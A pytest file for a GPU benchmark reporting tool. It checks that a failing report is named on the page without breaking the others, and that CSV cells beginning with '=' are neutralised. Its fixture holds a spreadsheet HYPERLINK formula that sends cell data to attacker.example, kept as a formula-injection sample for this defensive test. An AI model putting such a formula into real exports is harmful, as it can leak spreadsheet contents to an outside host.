"""A report set whose parts fail one by one, and text a spreadsheet would run (issue 32).

Real deltalake, DuckDB and the page's templates. Before: a failing best_value (StatsError) made
index.html fail too (``KeyError: 'best_value'``): no page at all; and ``=HYPERLINK(…)`` in a
free-text field went unchanged into the CSVs a spreadsheet opens.
"""

from __future__ import annotations

import datetime as dt

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from gpucompare.lake.ingest import RunContext, results_rows
from gpucompare.lake.tables import open_lake
from gpucompare.reports import build
from gpucompare.reports.build import run_reports
from gpucompare.reports.report_set import ReportsIncomplete
from gpucompare.reports.stats import StatsError
from tests.support.reports_data import record

FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"details")'


@pytest.fixture
def lake_with_a_formula(tmp_path):
    """Two nights of g5.xlarge (a priced machine) whose free-text ``source`` is a formula."""
    lake = open_lake(str(tmp_path / "lake"))
    context = RunContext(provider="aws", instance_type="g5.xlarge", region="us-east-1", target="ec2",
                         source=FORMULA).validated()
    for night, speed in ((10, 1000.0), (11, 1010.0)):
        rows = [{**record(images_per_sec=speed, night=dt.date(2026, 3, night)), "run_id": f"nightly-{night}"}]
        lake.write_results(results_rows(rows, context), run_id=f"nightly-{night}")
    return str(tmp_path / "lake")


def test_a_failing_report_leaves_the_others_and_the_page_which_names_it(lake_with_a_formula, tmp_path,
                                                                          monkeypatch):
    def broken(_build):
        raise StatsError("every sample must be a finite number")

    monkeypatch.setitem(build.BUILDERS, "best_value", broken)
    out = tmp_path / "out"
    with pytest.raises(ReportsIncomplete) as failed:
        run_reports(lake_with_a_formula, str(out))
    assert set(failed.value.failures) == {"best_value"}, failed.value.failures  # the page drew itself
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "1 part(s) of this report set failed" in page
    assert "best_value</b>: StatsError: every sample must be a finite number" in page
    assert 'id="throughput"' in page and "Not drawn" in page  # the cost section says why it is empty
    assert (out / "throughput.csv").exists() and not (out / "best_value.csv").exists()
    assert "best_value: StatsError" in (out / "summary.md").read_text(encoding="utf-8")


def test_formula_cells_are_neutralised_in_the_csvs_and_kept_in_the_parquet(lake_with_a_formula, tmp_path):
    out = tmp_path / "out"
    run_reports(lake_with_a_formula, str(out))
    csv_sources = pacsv.read_csv(out / "cost_per_million.csv").column("result_source").to_pylist()
    parquet_sources = pq.read_table(out / "cost_per_million" / "cost_per_million.parquet").column(
        "result_source").to_pylist()
    assert csv_sources and set(csv_sources) == {"'" + FORMULA}
    assert set(parquet_sources) == {FORMULA}
    raw = (out / "cost_per_million.csv").read_text(encoding="utf-8")
    assert ',"=' not in raw and "\n=" not in raw and ',=' not in raw  # no cell starts with '='
